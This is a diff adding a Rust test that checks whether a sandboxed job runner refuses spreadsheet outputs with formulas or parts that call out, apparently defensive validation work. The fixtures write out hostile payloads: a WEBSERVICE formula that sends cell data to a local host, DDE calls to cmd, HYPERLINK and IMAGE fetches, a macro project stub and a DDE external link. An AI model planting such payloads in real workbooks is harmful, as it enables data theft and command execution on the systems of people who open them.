@@ -1183,3 +1183,114 @@ print(openpyxl.load_workbook("source.xlsx").sheetnames)
     assert_eq!(hash(), before, "the input was modified");
     next_job_runs(&exec);
 }
+
+/// What a spreadsheet program runs or fetches outside the cells, written three ways:
+/// by XlsxWriter (a defined name, a conditional format's rule, a drop-down list that
+/// call out), by openpyxl (a formula rule), and as the bytes of a workbook carrying a
+/// macro project and a DDE link, written whole by the job (the host never trusts what
+/// a worker's libraries wrote). `no_formulas` refuses each, naming it, gate on and
+/// off. The same features as model code writes them (a banded rule, a list of
+/// values, print titles, an autofilter, a named constant, data bars) pass.
+#[test]
+fn formulas_outside_the_cells_that_call_out_are_refused() {
+    let checks = Expectations::from_toml(
+        "version = 1\nartifacts = [\"result.xlsx\"]\n[[tables]]\nartifact = \"result.xlsx\"\n",
+    )
+    .unwrap();
+    let xlsxwriter = r#"
+import xlsxwriter
+wb = xlsxwriter.Workbook('result.xlsx')
+ws = wb.add_worksheet('Data')
+ws.write_row(0, 0, ['dept', 'amount'])
+ws.write_row(1, 0, ['hq', 2])
+wb.define_name('Leak', '=WEBSERVICE("http://127.0.0.1:9/?"&Data!$B$2)')
+ws.conditional_format('A2:B2', {'type': 'formula', 'criteria': "=cmd|' /C calc'!A0", 'format': wb.add_format({'bold': True})})
+ws.data_validation('A2', {'validate': 'list', 'source': '=HYPERLINK("http://127.0.0.1:9/x")'})
+wb.close()
+"#;
+    let openpyxl = r#"
+from openpyxl import load_workbook
+from openpyxl.formatting.rule import FormulaRule
+from openpyxl.styles import PatternFill
+pd.DataFrame({'dept': ['hq'], 'amount': [2]}).to_excel('result.xlsx', index=False)
+wb = load_workbook('result.xlsx')
+wb.active.conditional_formatting.add('A2:B2', FormulaRule(formula=['_xlfn.IMAGE("http://127.0.0.1:9/"&$A2)<>""'], fill=PatternFill('solid', fgColor='FF0000')))
+wb.save('result.xlsx')
+"#;
+    let sheet = sheet_with(
+        "",
+        r#"<row r="1"><c r="A1" t="inlineStr"><is><t>amount</t></is></c></row><row r="2"><c r="A2"><v>2</v></c></row>"#,
+    );
+    let bytes = raw_workbook(
+        &sheet,
+        &[
+            ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 Auto_Open"),
+            ("xl/externalLinks/externalLink1.xml", br#"<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>"#),
+        ],
+    );
+    let hex: String = bytes.iter().map(|b| format!("{b:02x}")).collect();
+    let whole = format!("open('result.xlsx', 'wb').write(bytes.fromhex('{hex}'))\n");
+    let cases: [(&str, &[&str]); 3] = [
+        (
+            xlsxwriter,
+            &[
+                "the defined name Leak holds the function WEBSERVICE",
+                "result.xlsx!Data: the conditional format on A2:B2 holds a DDE call",
+                "result.xlsx!Data: the data validation on A2 holds the function HYPERLINK",
+            ],
+        ),
+        (
+            openpyxl,
+            &["result.xlsx!Sheet1: the conditional format on A2:B2 holds the function IMAGE"],
+        ),
+        (
+            &whole,
+            &[
+                "result.xlsx holds xl/vbaProject.bin, a macro project",
+                "result.xlsx holds xl/externalLinks/externalLink1.xml, a link to another workbook or a DDE server",
+            ],
+        ),
+    ];
+    for exec in [executor(), executor_gate_off()] {
+        for (code, wants) in cases {
+            let o = run(&exec, Job::new(code).expect(&checks));
+            let JobFailure::InvalidOutput { check, detail } = failure(&o) else {
+                panic!("{:?}", o.result)
+            };
+            assert_eq!(check, "table:result.xlsx");
+            assert!(detail.contains("runs or fetches on its own"), "{detail}");
+            for want in wants {
+                assert!(detail.contains(want), "{want:?} not in:\n{detail}");
+            }
+        }
+        next_job_runs(&exec);
+    }
+    let dressed = r#"
+import xlsxwriter
+wb = xlsxwriter.Workbook('result.xlsx')
+ws = wb.add_worksheet('Data')
+ws.write_row(0, 0, ['dept', 'amount', 'status'])
+for r, (d, a) in enumerate([('hq', 2), ('sales', -1), ('r&d', 5)], start=1):
+    ws.write_row(r, 0, [d, a, 'open'])
+wb.define_name('Rate', '=0.96')
+ws.repeat_rows(0)
+ws.autofilter('A1:C4')
+ws.conditional_format('A2:C4', {'type': 'formula', 'criteria': '=MOD(ROW(),2)=0', 'format': wb.add_format({'bg_color': '#EEEEEE'})})
+ws.conditional_format('B2:B4', {'type': 'formula', 'criteria': '=AND($B2<0,ISNUMBER($B2))', 'format': wb.add_format({'font_color': 'red'})})
+ws.conditional_format('B2:B4', {'type': 'data_bar'})
+ws.data_validation('C2:C4', {'validate': 'list', 'source': ['open', 'closed']})
+wb.close()
+"#;
+    let o = run(&executor(), Job::new(dressed).expect(&checks));
+    expect_ok(&o);
+    let parts = workbook_parts(&o.artifacts()[0].bytes);
+    let workbook = &parts
+        .iter()
+        .find(|(n, _)| n == "xl/workbook.xml")
+        .unwrap()
+        .1;
+    let workbook = String::from_utf8_lossy(workbook);
+    for name in ["Rate", "_xlnm.Print_Titles", "_xlnm._FilterDatabase"] {
+        assert!(workbook.contains(name), "{name} written: {workbook}");
+    }
+}
